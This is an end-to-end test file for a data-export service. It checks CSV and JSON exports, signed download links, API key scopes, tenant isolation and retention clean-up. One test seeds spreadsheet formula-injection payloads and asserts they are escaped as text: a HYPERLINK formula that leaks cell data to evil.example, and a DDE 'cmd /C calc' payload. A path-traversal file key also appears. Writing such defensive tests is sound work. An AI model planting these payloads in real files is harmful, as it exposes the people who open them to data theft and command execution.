import { randomUUID } from 'node:crypto';
import { readdir, utimes, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, describe, expect, it, vi } from 'vitest';
import { createJobsConnection, createProducers, jobsPrefix } from '@mindweave/jobs';
import { signDownloadUrl } from '../subgraphs/exports/download.ts';
import { createTenant, gql, stack } from './client.ts';
import { sql } from './db.ts';
import { waitForMail } from './mail.ts';

// The clean-up job goes to the test stack's own queues, as its scheduler would add it.
const connection = createJobsConnection(stack.redisUrl, 'producer', 'exports-e2e');
const producers = createProducers(connection, { prefix: jobsPrefix(stack.env['REDIS_KEY_PREFIX'] ?? '') });
afterAll(async () => {
  await producers.close();
  connection.disconnect();
});

const requestExport =
  'mutation ($input: RequestExportInput!) { requestExport(input: $input) { id status downloadUrl error type format rowsWritten } }';
const exportJob =
  'query ($id: ID!) { exportJob(id: $id) { id status downloadUrl error rowsWritten bytes finishedAt organization { id } } }';

/** A CSV parser for the test (RFC 4180: quoted fields, doubled quotes, CRLF). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i]!;
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (char === '"') quoted = false;
      else field += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') {
      row.push(field);
      field = '';
    } else if (char === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else field += char;
  }
  if (field || row.length) rows.push([...row, field]);
  return rows;
}

async function finished(id: string, token: string, timeoutMs = 45_000) {
  let job: Record<string, any> = {};
  await vi.waitFor(
    async () => {
      job = (await gql(exportJob, { id }, { token })).data!.exportJob;
      expect(['SUCCEEDED', 'FAILED']).toContain(job['status']);
    },
    { timeout: timeoutMs, interval: 200 },
  );
  return job;
}

/** Seeds usage events straight into analytics' table, as the persistence consumer would have written them. */
async function seedUsage(tenant: { organizationId: string; projectId: string; apiKeyId: string }, count: number, start: Date) {
  await sql(
    `INSERT INTO analytics.usage_events (id, "organizationId", "projectId", "apiKeyId", model, "inputTokens", "outputTokens", "latencyMs", "costUsd", "unpricedModel", "occurredAt", metadata)
     SELECT gen_random_uuid(), $1::uuid, $2::uuid, $3::uuid,
            CASE WHEN g % 1000 = 0 THEN 'odd,"model"' ELSE 'gpt-4o-mini' END,
            g % 5000, g % 700, g % 300, (g % 100) / 1000.0, g % 2 = 0,
            $4::timestamp + g * interval '1 second',
            CASE WHEN g % 10 = 0 THEN jsonb_build_object('route', 'chat, completions', 'n', g) END
     FROM generate_series(1, $5::int) g`,
    [tenant.organizationId, tenant.projectId, tenant.apiKeyId, start.toISOString().replace('T', ' ').replace('Z', ''), count],
  );
}

describe('exports', () => {
  it('exports 100,000 usage rows to a CSV that holds exactly those rows, streamed through the router', { timeout: 90_000 }, async () => {
    const tenant = await createTenant();
    const other = await createTenant();
    const start = new Date(Date.UTC(2026, 0, 1));
    await seedUsage(tenant, 100_000, start);
    // Outside the range, and another organization's: not in the file.
    await seedUsage(tenant, 5, new Date(start.getTime() - 86_400_000));
    await seedUsage(other, 50, start);
    const from = new Date(start.getTime() + 1_000).toISOString();
    const to = new Date(start.getTime() + 100_001_000).toISOString();

    const requested = await gql(
      requestExport,
      { input: { organizationId: tenant.organizationId, type: 'USAGE', format: 'CSV', from, to } },
      { token: tenant.user.accessToken },
    );
    expect(requested.errors).toBeUndefined();
    expect(requested.data!.requestExport).toMatchObject({
      status: 'QUEUED',
      downloadUrl: null,
      error: null,
      type: 'USAGE',
      format: 'CSV',
      rowsWritten: 0,
    });
    const id = requested.data!.requestExport.id as string;

    const job = await finished(id, tenant.user.accessToken);
    expect(job).toMatchObject({ status: 'SUCCEEDED', error: null, rowsWritten: 100_000, organization: { id: tenant.organizationId } });
    const url = new URL(job['downloadUrl']);
    expect(url.origin).toBe(new URL(stack.routerUrl).origin);
    expect(url.pathname).toBe(`/exports/${id}/download`);

    const response = await fetch(url);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toContain(`mindweave-export-${id}.csv`);
    const text = await response.text();
    expect(Buffer.byteLength(text)).toBe(job['bytes']);
    const [header, ...rows] = parseCsv(text);
    expect(header).toEqual([
      'id',
      'projectId',
      'apiKeyId',
      'model',
      'inputTokens',
      'outputTokens',
      'latencyMs',
      'costUsd',
      'unpricedModel',
      'occurredAt',
      'recordedAt',
      'metadata',
    ]);
    expect(rows).toHaveLength(100_000);

    const expected = await sql<{ id: string }>(
      `SELECT id::text FROM analytics.usage_events WHERE "organizationId" = $1 AND "occurredAt" >= $2::timestamptz AT TIME ZONE 'UTC' AND "occurredAt" < $3::timestamptz AT TIME ZONE 'UTC' ORDER BY "occurredAt", id`,
      [tenant.organizationId, from, to],
    );
    expect(rows.map((row) => row[0])).toEqual(expected.map((row) => row.id));
    const odd = rows.find((row) => row[4] === '1000')!;
    expect(odd).toEqual([
      expect.any(String),
      tenant.projectId,
      tenant.apiKeyId,
      'odd,"model"',
      '1000',
      String(1000 % 700),
      String(1000 % 300),
      '0',
      'true',
      '2026-01-01T00:16:40.000Z',
      expect.stringMatching(/Z$/),
      expect.any(String),
    ]);
    expect(JSON.parse(odd[11]!)).toEqual({ route: 'chat, completions', n: 1000 });

    // The requester is told.
    await waitForMail(tenant.user.email, (m) => m.subject === 'Your MindWeave export is ready' && m.text.includes(id));
  });

  it('writes cells a spreadsheet would run as formulas as text (a policy named =HYPERLINK(...) in an AUDIT export)', async () => {
    const tenant = await createTenant();
    const names = [
      '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
      '+1+1',
      '-2+3',
      '@SUM(A1:A9)',
      "=cmd|' /C calc'!A0",
      'plain, with a comma',
    ];
    for (const name of names) {
      const created = await gql(
        'mutation ($input: CreatePolicyInput!) { createPolicy(input: $input) { id } }',
        { input: { organizationId: tenant.organizationId, name, type: 'MODEL_DENYLIST', rules: { models: ['x'] } } },
        { token: tenant.user.accessToken },
      );
      expect(created.errors).toBeUndefined();
    }
    const now = Date.now();
    const input = {
      organizationId: tenant.organizationId,
      type: 'AUDIT',
      format: 'CSV',
      from: new Date(now - 3_600_000).toISOString(),
      to: new Date(now + 3_600_000).toISOString(),
    };
    // The audit entries are written by governance with the change: they are there once the mutations answered.
    const id = (await gql(requestExport, { input }, { token: tenant.user.accessToken })).data!.requestExport.id as string;
    const job = await finished(id, tenant.user.accessToken);
    expect(job['status']).toBe('SUCCEEDED');
    const text = await (await fetch(job['downloadUrl'])).text();
    const [header, ...rows] = parseCsv(text);
    const column = header!.indexOf('policyName');
    expect(rows.map((row) => row[column]).sort()).toEqual(
      [
        '\'=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
        "'+1+1",
        "'-2+3",
        "'@SUM(A1:A9)",
        "'=cmd|' /C calc'!A0",
        'plain, with a comma',
      ].sort(),
    );
    // No cell of the file starts a formula: every field is checked, not only the names.
    for (const row of rows) for (const cell of row) expect(cell, cell).not.toMatch(/^[=+@\t\r]|^-(?!\d)/);
  });

  it('refuses a download whose signature is wrong, missing or expired with 403 FORBIDDEN', async () => {
    const tenant = await createTenant();
    const start = new Date(Date.UTC(2026, 1, 1));
    await seedUsage(tenant, 3, start);
    const requested = await gql(
      requestExport,
      {
        input: {
          organizationId: tenant.organizationId,
          type: 'USAGE',
          format: 'JSON',
          from: start.toISOString(),
          to: new Date(start.getTime() + 3_600_000).toISOString(),
        },
      },
      { token: tenant.user.accessToken },
    );
    const id = requested.data!.requestExport.id as string;
    const job = await finished(id, tenant.user.accessToken);
    const good = new URL(job['downloadUrl']);

    const ok = await fetch(good);
    expect(ok.headers.get('content-type')).toBe('application/json; charset=utf-8');
    const rows = (await ok.json()) as Record<string, unknown>[];
    expect(rows).toHaveLength(3);
    expect(rows[0]).toMatchObject({
      projectId: tenant.projectId,
      model: 'gpt-4o-mini',
      inputTokens: 1,
      outputTokens: 1,
      unpricedModel: false,
      occurredAt: '2026-02-01T00:00:01.000Z',
      metadata: null,
    });

    const tampered = new URL(good);
    const signature = tampered.searchParams.get('signature')!;
    tampered.searchParams.set('signature', `${signature.slice(0, -1)}${signature.endsWith('0') ? '1' : '0'}`);
    const expiryMoved = new URL(good);
    expiryMoved.searchParams.set('expires', String(Number(good.searchParams.get('expires')) + 3_600));
    const unsigned = new URL(`/exports/${id}/download`, stack.routerUrl);
    const secret = stack.env['INTERNAL_SIGNING_SECRET']!;
    const expired = new URL(signDownloadUrl({ baseUrl: stack.routerUrl, secret, exportId: id, ttlSeconds: -1 }).url);
    const otherExport = new URL(signDownloadUrl({ baseUrl: stack.routerUrl, secret: 'x'.repeat(40), exportId: id, ttlSeconds: 900 }).url);

    for (const url of [tampered, expiryMoved, unsigned, expired, otherExport]) {
      const refused = await fetch(url);
      expect(refused.status, url.search).toBe(403);
      const body = (await refused.json()) as { errors: { message: string; extensions: { code: string } }[] };
      expect(body.errors[0]?.extensions.code).toBe('FORBIDDEN');
    }
    expect(((await (await fetch(expired)).json()) as { errors: { message: string }[] }).errors[0]?.message).toMatch(/expired/);
    // A valid signature for an export that does not exist.
    const unknown = await fetch(signDownloadUrl({ baseUrl: stack.routerUrl, secret, exportId: randomUUID(), ttlSeconds: 60 }).url);
    expect(unknown.status).toBe(404);
  });

  it('takes requests from members and from API keys with exports:write and the scope to read the data, and keeps tenants apart', async () => {
    const tenant = await createTenant(['usage:read', 'policies:read', 'exports:write']);
    const readOnly = await createTenant(['usage:read']);
    const stranger = await createTenant();
    const input = {
      organizationId: tenant.organizationId,
      type: 'AUDIT',
      format: 'JSON',
      from: '2026-01-01T00:00:00Z',
      to: '2026-02-01T00:00:00Z',
    };

    const viaKey = await gql(requestExport, { input }, { token: tenant.apiKey });
    expect(viaKey.errors).toBeUndefined();
    const job = await finished(viaKey.data!.requestExport.id, tenant.apiKey);
    expect(job['status']).toBe('SUCCEEDED');
    // A new organization has no audit entries (or no audit log table yet): an empty array.
    expect(await (await fetch(job['downloadUrl'])).json()).toEqual([]);

    expect(
      (await gql(requestExport, { input: { ...input, organizationId: readOnly.organizationId } }, { token: readOnly.apiKey })).errors?.[0]
        ?.extensions.code,
    ).toBe('FORBIDDEN');
    // exports:write alone reads nothing that the key could not read through GraphQL.
    const keyWith = async (scopes: string[]) =>
      (
        await gql<{ createApiKey: { key: string } }>(
          'mutation ($input: CreateApiKeyInput!) { createApiKey(input: $input) { key } }',
          { input: { projectId: tenant.projectId, name: scopes.join(' '), scopes } },
          { token: tenant.user.accessToken },
        )
      ).data!.createApiKey.key;
    const usageOnly = await keyWith(['exports:write', 'usage:read']);
    expect((await gql(requestExport, { input }, { token: usageOnly })).errors?.[0]).toMatchObject({
      message: 'This API key lacks the policies:read scope',
      extensions: { code: 'FORBIDDEN' },
    });
    expect((await gql(requestExport, { input: { ...input, type: 'USAGE' } }, { token: usageOnly })).errors).toBeUndefined();
    const exportsOnly = await keyWith(['exports:write']);
    expect((await gql(requestExport, { input: { ...input, type: 'USAGE' } }, { token: exportsOnly })).errors?.[0]).toMatchObject({
      message: 'This API key lacks the usage:read scope',
      extensions: { code: 'FORBIDDEN' },
    });
    // Nor the status and download link of an export it could not have requested.
    expect((await gql(exportJob, { id: viaKey.data!.requestExport.id }, { token: usageOnly })).data).toEqual({ exportJob: null });
    expect((await gql(requestExport, { input }, { token: stranger.user.accessToken })).errors?.[0]?.extensions.code).toBe('NOT_FOUND');
    expect((await gql(exportJob, { id: viaKey.data!.requestExport.id }, { token: stranger.user.accessToken })).data).toEqual({
      exportJob: null,
    });
    expect((await gql(exportJob, { id: randomUUID() }, { token: tenant.user.accessToken })).data).toEqual({ exportJob: null });

    const backwards = await gql(requestExport, { input: { ...input, from: input.to, to: input.from } }, { token: tenant.user.accessToken });
    expect(backwards.errors?.[0]?.extensions).toMatchObject({ code: 'BAD_USER_INPUT', field: 'input.from' });
  });

  it('deletes exports finished before the retention, file and job, and keeps newer, running and half-written ones', async () => {
    const tenant = await createTenant();
    const start = new Date(Date.UTC(2026, 2, 1));
    await seedUsage(tenant, 2, start);
    const input = {
      organizationId: tenant.organizationId,
      type: 'USAGE',
      format: 'CSV',
      from: start.toISOString(),
      to: new Date(start.getTime() + 3_600_000).toISOString(),
    };
    const id = (await gql(requestExport, { input }, { token: tenant.user.accessToken })).data!.requestExport.id as string;
    const job = await finished(id, tenant.user.accessToken);
    expect((await fetch(job['downloadUrl'])).status).toBe(200);
    const folder = join(stack.env['EXPORTS_DIR']!, tenant.organizationId);
    const files = async () => (await readdir(folder)).sort();

    // Finished 8 days ago, past the default 7 days; beside it, exports that must stay.
    await sql(`UPDATE exports.export_jobs SET "finishedAt" = now() - interval '8 days' WHERE id = $1`, [id]);
    async function seeded(status: string, finishedDaysAgo: number | null, file: 'none' | 'written' | 'unusable key' = 'none') {
      const seededId = randomUUID();
      if (file === 'written') await writeFile(join(folder, `${seededId}.csv`), 'a,b\r\n');
      const fileKey = { none: null, written: `${tenant.organizationId}/${seededId}.csv`, 'unusable key': '../outside.csv' }[file];
      await sql(
        `INSERT INTO exports.export_jobs (id, "organizationId", "requestedBy", type, format, "from", "to", status, "fileKey", "createdAt", "finishedAt")
         VALUES ($1, $2, $3, 'USAGE', 'CSV', $4, $5, $6, $7, now() - interval '40 days', now() - make_interval(days => $8))`,
        [seededId, tenant.organizationId, tenant.user.userId, input.from, input.to, status, fileKey, finishedDaysAgo],
      );
      return seededId;
    }
    const recentId = await seeded('SUCCEEDED', 6, 'written');
    const running = await seeded('RUNNING', null);
    await seeded('FAILED', 30);
    // A file the clean-up cannot delete keeps its job, and holds up no other.
    const stuck = await seeded('SUCCEEDED', 9, 'unusable key');
    // What a worker killed mid-export left two days ago, and what one is writing now.
    const abandoned = join(folder, `${randomUUID()}.csv.123.part`);
    const writing = `${randomUUID()}.csv.456.part`;
    await writeFile(abandoned, 'a,b');
    await writeFile(join(folder, writing), 'a,b');
    const twoDaysAgo = new Date(Date.now() - 2 * 86_400_000);
    await utimes(abandoned, twoDaysAgo, twoDaysAgo);

    const cleanup = await producers.add('analytics', 'exports-cleanup', {});
    await vi.waitFor(async () => expect(await producers.queues.analytics.getJobState(cleanup.id!)).toBe('completed'), {
      timeout: 15_000,
      interval: 100,
    });
    // (The stack's own hourly run may have taken the abandoned file first: what is left is checked below.)
    expect((await producers.queues.analytics.getJob(cleanup.id!))!.returnvalue).toMatchObject({ kept: [stuck] });

    expect((await gql(exportJob, { id }, { token: tenant.user.accessToken })).data).toEqual({ exportJob: null });
    const gone = await fetch(job['downloadUrl']);
    expect(gone.status).toBe(404);
    expect(((await gone.json()) as { errors: { extensions: { code: string } }[] }).errors[0]?.extensions.code).toBe('NOT_FOUND');
    expect(await files()).toEqual([`${recentId}.csv`, writing].sort());
    const left = await sql<{ id: string }>('SELECT id FROM exports.export_jobs WHERE "organizationId" = $1', [tenant.organizationId]);
    expect(left.map((row) => row.id).sort()).toEqual([recentId, running, stuck].sort());
    await sql('DELETE FROM exports.export_jobs WHERE id = $1', [stuck]);
  });
});
